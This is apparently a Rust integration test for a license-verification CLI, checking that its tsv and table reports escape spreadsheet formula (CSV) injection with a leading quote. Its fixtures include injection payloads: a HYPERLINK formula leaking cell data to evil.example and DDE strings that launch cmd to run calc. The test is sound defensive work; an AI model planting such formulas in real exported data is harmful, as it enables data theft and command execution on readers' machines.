//! Reports a spreadsheet cannot turn against their reader: the OWASP rule
//! against CSV injection in `--format tsv` and `table`.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::fs;
use std::process::Command;

use airgap_license::issuer::Issuer;
use serde_json::json;

const BIN: &str = env!("CARGO_BIN_EXE_airgap-license");

#[test]
fn a_cell_a_spreadsheet_would_run_gets_a_leading_quote() {
    let dir = tempfile::tempdir().unwrap();
    let key = crate::util::keys_folder(dir.path());
    let issuer = Issuer::new("test", key).unwrap();
    let licensees = [
        ("a", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
        ("b", "+1+cmd|' /C calc'!A0"),
        ("c", "-2+3"),
        ("d", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("e", "\tTabbed"),
        ("f", "\rReturned"),
        ("g", "Plain Corp = fine"),
    ];
    for (i, (name, licensee)) in licensees.iter().enumerate() {
        let doc = json!({
            "licenseId": format!("00000000-0000-4000-8000-00000000000{i}"), "issuedTo": licensee,
            "issued": "2026-01-01", "expiration": "2036-12-31",
            "licenseAttributes": {"LicensedPlan": "Enterprise", "LicenseType": "Production"},
        });
        fs::write(dir.path().join(format!("{name}.lic")), issuer.sign(doc.to_string().as_bytes()).unwrap()).unwrap();
    }
    for format in ["tsv", "table"] {
        let out = Command::new(BIN)
            .current_dir(dir.path())
            .args(["verify", "--at", "2026-06-01", "--keys", "keys", "--format", format, "--", "."])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let text = String::from_utf8(out.stdout).unwrap();
        let rows: Vec<&str> = text.lines().filter(|l| l.starts_with("./")).collect();
        assert_eq!(rows.len(), licensees.len(), "{text}");
        let licensee_cell = |row: &str| -> String {
            if format == "tsv" {
                row.split('\t').nth(2).unwrap().to_owned()
            } else {
                // The table: the licensee is the third column; find it by its text.
                row.to_owned()
            }
        };
        for ((_, licensee), row) in licensees.iter().zip(&rows) {
            let cell = licensee_cell(row);
            let escaped = airgap_license::escape(licensee);
            if licensee.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert!(cell.contains(&format!("'{escaped}")), "{format}: {row}");
            } else {
                assert!(cell.contains(&escaped) && !cell.contains(&format!("'{escaped}")), "{format}: {row}");
            }
            // Nothing raw that could split a row or a cell.
            assert!(!row.contains('\r'), "{format}: {row:?}");
        }
        if format == "tsv" {
            for row in &rows {
                assert_eq!(row.split('\t').count(), 8, "{row:?}");
            }
        }
    }
}
